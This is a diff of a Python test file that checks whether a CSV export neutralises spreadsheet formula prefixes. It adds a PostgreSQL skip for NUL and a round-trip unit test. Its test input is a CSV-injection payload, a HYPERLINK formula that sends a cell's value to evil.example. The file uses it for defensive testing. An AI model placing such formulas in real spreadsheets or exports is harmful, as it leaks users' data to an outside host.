@@ -190,6 +190,8 @@ def test_commas_quotes_and_newlines_survive_rfc_4180_quoting(chief):
 
 @pytest.mark.parametrize("prefix", ["=", "+", "-", "@", "\t", "\r", "\x00"])
 def test_every_formula_prefix_is_neutralised_and_round_trips(chief, prefix):
+    if prefix == "\x00" and connection.vendor == "postgresql":
+        pytest.skip("PostgreSQL text cannot hold NUL (the unit test below covers it)")
     payload = f'{prefix}HYPERLINK("http://evil.example/?x="&A1,"click")'
     article = ArticleFactory(title=payload, outlet=payload)
     claim = ClaimFactory(article=article, text=payload, summary=payload, speaker=payload)
@@ -202,6 +204,14 @@ def test_every_formula_prefix_is_neutralised_and_round_trips(chief, prefix):
     for column in ("article_title", "outlet", "claim_text", "summary", "speaker", "sources",
                    "counter_sources", "latest_note"):  # fmt: skip
         assert row[column] == "'" + payload, column
+
+
+@pytest.mark.parametrize("prefix", exports.FORMULA_PREFIXES)
+def test_a_neutralised_cell_round_trips_through_the_csv_module(prefix):
+    value = f'{prefix}1+2, "quoted"\r\nnext line'
+    buffer = io.StringIO()
+    csv.writer(buffer).writerow([exports.safe_cell(value), "after"])
+    assert parse(buffer.getvalue().encode()) == [["'" + value, "after"]]
 
 
 def test_harmless_cells_are_left_alone():
